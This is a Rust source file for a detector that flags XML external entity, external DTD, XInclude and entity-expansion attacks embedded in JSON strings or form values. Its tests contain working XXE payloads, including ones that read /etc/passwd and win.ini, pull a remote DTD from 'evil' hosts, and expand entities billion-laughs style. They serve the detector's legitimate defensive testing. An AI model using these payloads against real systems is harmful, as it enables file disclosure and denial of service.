//! XML external entities smuggled inside other values (the XML body parser
//! refuses `<!DOCTYPE` outright; this is for XML carried in a JSON string,
//! a form field, a query parameter…).
//!
//! | found | severity | paranoia |
//! |---|---|---|
//! | `<!ENTITY … SYSTEM`/`PUBLIC` (external entity) | critical | 1 |
//! | `<!ENTITY %` (parameter entity) | critical | 1 |
//! | `<!DOCTYPE x SYSTEM "…">` (external DTD) | critical | 1 |
//! | two or more `<!ENTITY` (entity expansion, "billion laughs") | critical | 1 |
//! | `<xi:include` or the XInclude namespace | critical | 1 |
//! | one internal `<!ENTITY` | error | 1 |
//! | `<!DOCTYPE x [` internal subset without entities | warning | 2 |
//!
//! `<!DOCTYPE html>` (an HTML document in a value) is not a hit.

use super::traversal::text::{contains_ci, find_ci, hit, starts_with_ci};
use super::{Context, Detector, DetectorKind, Hit};
use crate::normalize::Normalized;
use crate::report::Severity;

/// The ExternalEntities detector.
pub struct ExternalEntities;

impl Detector for ExternalEntities {
    fn kind(&self) -> DetectorKind {
        DetectorKind::Xxe
    }

    fn detect(&self, value: &Normalized<'_>, _ctx: &Context<'_>) -> Option<Hit> {
        scan(value.decoded.as_bytes())
    }
}

/// Bytes of a declaration looked at (bounds the work per `<!ENTITY` /
/// `<!DOCTYPE`, so that the scan stays linear).
const DECL_WINDOW: usize = 1024;

fn scan(s: &[u8]) -> Option<Hit> {
    // Every XML construct starts with `<`.
    memchr::memchr(b'<', s)?;
    if contains_ci(s, b"<xi:include") || contains_ci(s, b"/2001/xinclude") {
        return Some(hit(Severity::Critical, 1, "XInclude"));
    }
    let mut entities = 0usize;
    let mut from = 0;
    while let Some(p) = find_ci(s, b"<!entity", from) {
        entities += 1;
        let after = skip_ws(s, p + 8);
        if s.get(after) == Some(&b'%') {
            return Some(hit(Severity::Critical, 1, "XML parameter entity"));
        }
        // `<!ENTITY name SYSTEM "…"` / `PUBLIC "…" "…"` up to the `>`.
        let window = &s[after..(after + DECL_WINDOW).min(s.len())];
        let end = window
            .iter()
            .position(|&b| b == b'>')
            .map_or(after + window.len(), |e| after + e);
        let decl = &s[after..end];
        if contains_ci(decl, b"system") || contains_ci(decl, b"public") {
            return Some(hit(Severity::Critical, 1, "XML external entity"));
        }
        from = p + 8;
    }
    if entities >= 2 {
        return Some(hit(Severity::Critical, 1, "XML entity expansion"));
    }
    if entities == 1 {
        return Some(hit(Severity::Error, 1, "XML entity declaration"));
    }
    let mut from = 0;
    let mut found = None;
    while let Some(p) = find_ci(s, b"<!doctype", from) {
        // `<!DOCTYPE name SYSTEM|PUBLIC "…"` or `[ … ]`.
        let mut i = skip_ws(s, p + 9);
        let name_end = (i + DECL_WINDOW).min(s.len());
        while i < name_end && !s[i].is_ascii_whitespace() && s[i] != b'>' && s[i] != b'[' {
            i += 1;
        }
        i = skip_ws(s, i);
        if starts_with_ci(s, i, b"system") {
            return Some(hit(Severity::Critical, 1, "external DTD"));
        }
        if starts_with_ci(s, i, b"public") {
            // `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML…" "http://www.w3.org/…">`
            // is an ordinary (X)HTML document type.
            let window = &s[i..(i + DECL_WINDOW).min(s.len())];
            let end = window
                .iter()
                .position(|&b| b == b'>')
                .map_or(i + window.len(), |e| i + e);
            if !contains_ci(&s[i..end], b"//w3c//") {
                return Some(hit(Severity::Critical, 1, "external DTD"));
            }
        }
        if s.get(i) == Some(&b'[') {
            found = Some(hit(Severity::Warning, 2, "DOCTYPE internal subset"));
        }
        from = p + 9;
    }
    found
}

fn skip_ws(s: &[u8], mut i: usize) -> usize {
    while i < s.len() && s[i].is_ascii_whitespace() {
        i += 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::ValueKind;

    fn check(v: &str) -> Option<Hit> {
        crate::detect::run(&ExternalEntities, v, ValueKind::JsonString)
    }

    #[test]
    fn attacks() {
        for v in [
            r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
            r#"<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://evil/x.dtd"> %remote;]>"#,
            r#"<!DOCTYPE r [<!ENTITY  %  p SYSTEM "x">]>"#,
            r#"<!entity x system "file:///c:/windows/win.ini">"#,
            r#"<!DOCTYPE a [<!ENTITY x PUBLIC "-//x" "http://evil/x.dtd">]>"#,
            r#"<!DOCTYPE foo SYSTEM "http://evil.example/x.dtd"><foo/>"#,
            r#"<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>"#,
            r#"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>"#,
            "%3C!DOCTYPE%20x%20%5B%3C!ENTITY%20x%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fpasswd%22%3E%5D%3E",
        ] {
            let h = check(v);
            assert!(
                h.is_some_and(|h| h.severity == Severity::Critical && h.paranoia == 1),
                "{v}: {h:?}"
            );
        }
        assert_eq!(
            check(r#"<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>"#).map(|h| h.severity),
            Some(Severity::Error)
        );
        assert_eq!(
            check("<!DOCTYPE a [<!ELEMENT a ANY>]>").map(|h| h.paranoia),
            Some(2)
        );
    }

    #[test]
    fn benign() {
        for v in [
            "<!DOCTYPE html><html><body>Hi</body></html>",
            r#"<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">"#,
            "<note><to>Tove</to><body>Don't forget me</body></note>",
            "The SYSTEM entity was cached; see <b>docs</b>",
            "a < b and c > d",
            "I <3 entities &amp; systems",
            "<p>Bonjour, ça va ?</p>",
        ] {
            assert!(check(v).is_none(), "{v}: {:?}", check(v));
        }
    }
}
